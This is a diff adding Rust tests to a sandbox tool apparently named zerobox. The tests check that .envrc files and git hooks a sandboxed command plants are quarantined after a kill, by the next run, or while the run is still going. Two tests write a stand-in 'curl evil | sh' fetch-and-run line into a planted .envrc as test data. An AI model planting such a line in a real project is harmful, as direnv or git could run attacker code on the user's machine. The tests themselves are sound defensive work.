@@ -711,6 +711,13 @@ fn no_zerobox_artifact_in_the_users_tree_during_after_or_after_kill() {
     assert_eq!(r.stdout, "end\n", "zerobox artifacts seen inside: {r:?}");
     assert_eq!(git(&["status", "--porcelain", "--ignored"]), "", "after");
     // kill -9 while the command holds a planted .envrc.
+    let quarantined = |d: &Path| {
+        std::fs::read_dir(d).unwrap().flatten().any(|e| {
+            e.file_name()
+                .to_string_lossy()
+                .starts_with(".envrc.zerobox-quarantine-")
+        })
+    };
     let mut c = crate::common::zerobox();
     let mut child = c
         .current_dir(&d)
@@ -722,24 +729,67 @@ fn no_zerobox_artifact_in_the_users_tree_during_after_or_after_kill() {
         .unwrap();
     assert!(crate::util::wait_until(
         std::time::Duration::from_secs(10),
-        || d.join(".envrc").exists()
+        || d.join(".envrc").exists() || quarantined(&d)
     ));
     child.kill().unwrap();
     child.wait().unwrap();
-    // The next run (any command) finds the killed run's journal.
+    // The killed run's journal is still there for the next run.
+    let journals = h.join(".local/share/zerobox/guards");
+    let count = || std::fs::read_dir(&journals).map(|r| r.count()).unwrap_or(0);
+    assert_eq!(count(), 1, "the killed run left no journal");
+    // The next run (any command) handles it.
     let r = crate::util::sh(&d, Some(&h), &[], "true");
     assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(count(), 0, "the journal was not handled: {r:?}");
     assert!(
         !d.join(".envrc").exists(),
         "planted .envrc left active: {r:?}"
     );
-    assert!(
-        r.stderr
-            .contains(".envrc was created by an earlier zerobox run"),
-        "{r:?}"
-    );
+    assert!(quarantined(&d), "{r:?}");
     let status = git(&["status", "--porcelain"]);
     assert!(status.contains(".envrc.zerobox-quarantine-"), "{status}");
+}
+
+/// A killed run's journal: what its command created at a protected name
+/// is quarantined by the next run, which names the killed run. (Made by
+/// hand here: the watcher normally moves the name during the run, before
+/// any kill can happen.)
+#[test]
+fn killed_runs_journal_is_handled_by_the_next_run() {
+    let home = Home::new();
+    let h = home.path();
+    let s = scratch();
+    let d = real(s.path());
+    let journals = h.join(".local/share/zerobox/guards");
+    std::fs::create_dir_all(&journals).unwrap();
+    let since = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs()
+        - 5;
+    let envrc = d.join(".envrc");
+    let hexpath: String = envrc
+        .to_str()
+        .unwrap()
+        .bytes()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    // pid 0 never names a live run.
+    std::fs::write(
+        journals.join("0.json"),
+        format!(r#"{{"pid":0,"start":0,"since":{since},"paths":["{hexpath}"]}}"#),
+    )
+    .unwrap();
+    std::fs::write(&envrc, "curl evil | sh\n").unwrap();
+    let r = crate::util::sh(&d, Some(&h), &[], "true");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(!envrc.exists(), "{r:?}");
+    assert!(
+        r.stderr
+            .contains("by an earlier zerobox run (pid 0) that was killed"),
+        "{r:?}"
+    );
+    assert!(!journals.join("0.json").exists());
 }
 
 /// Threat: two runs in one project at once: on main, A's cleanup removed
@@ -780,4 +830,50 @@ fn two_concurrent_runs_cannot_plant_a_protected_path() {
         })
         .count();
     assert!(quarantined >= 1, "{a:?}\n{b:?}");
+}
+
+/// Threat: a protected name created *during* a long run (an agent's
+/// session) is read by a host process before the run ends (`direnv` in
+/// another terminal runs `.envrc`). Stopped by: zerobox watches the
+/// directories on the way and moves the name aside as soon as it appears,
+/// while the command is still running.
+#[test]
+fn protected_name_created_during_the_run_is_moved_aside_at_once() {
+    let s = scratch();
+    let d = real(s.path());
+    let mut child = crate::common::zerobox()
+        .current_dir(&d)
+        .args(["--profile", "protect-shell", "--allow-write=."])
+        .args([
+            "--",
+            "sh",
+            "-c",
+            "mkdir -p .git && echo 'curl evil|sh' > .envrc && mkdir .git/hooks && sleep 5",
+        ])
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let moved = |name: &str| {
+        let prefix = format!("{name}.zerobox-quarantine-");
+        move |dir: &Path| {
+            std::fs::read_dir(dir)
+                .map(|r| {
+                    r.flatten()
+                        .any(|e| e.file_name().to_string_lossy().starts_with(&prefix))
+                })
+                .unwrap_or(false)
+        }
+    };
+    let envrc_moved = crate::util::wait_until(std::time::Duration::from_secs(4), || {
+        moved(".envrc")(&d) && moved("hooks")(&d.join(".git"))
+    });
+    let still_running = child.try_wait().unwrap().is_none();
+    let _ = child.kill();
+    let _ = child.wait();
+    assert!(envrc_moved, "not moved aside during the run");
+    assert!(
+        still_running,
+        "the run ended before the check: the test proves nothing"
+    );
+    assert!(!d.join(".envrc").exists() && !d.join(".git/hooks").exists());
 }
